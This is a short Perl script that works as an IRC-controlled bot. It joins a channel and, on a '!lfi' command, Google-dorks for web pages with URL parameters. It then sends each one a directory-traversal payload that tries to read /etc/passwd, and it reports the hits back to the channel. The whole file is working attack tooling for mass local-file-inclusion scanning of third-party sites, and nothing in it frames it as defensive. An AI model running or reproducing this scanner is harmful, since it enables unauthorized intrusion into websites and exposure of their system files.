#!/usr/bin/perl
use IO::Socket::INET;
use LWP::UserAgent;
my $s = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667) or die;
print $s "NICK scan" . int(rand(999)) . "\r\nUSER s 0 * :s\r\n";
while (my $l = <$s>) {
    print $s "JOIN #ops\r\n" if $l =~ / 001 /;
    if ($l =~ /PRIVMSG (#\S+) :!lfi (\S+)/) {
        my ($ch, $dork) = ($1, $2);
        my $ua = LWP::UserAgent->new;
        my $res = $ua->get("http://www.google.com/search?q=inurl:$dork&num=100");
        for my $u ($res->content =~ m{href="(http://[^"]+=)}g) {
            print $s "PRIVMSG $ch :vuln $u\r\n" if $ua->get($u . "../../../../etc/passwd%00")->content =~ /root:x:/;
        }
    }
}
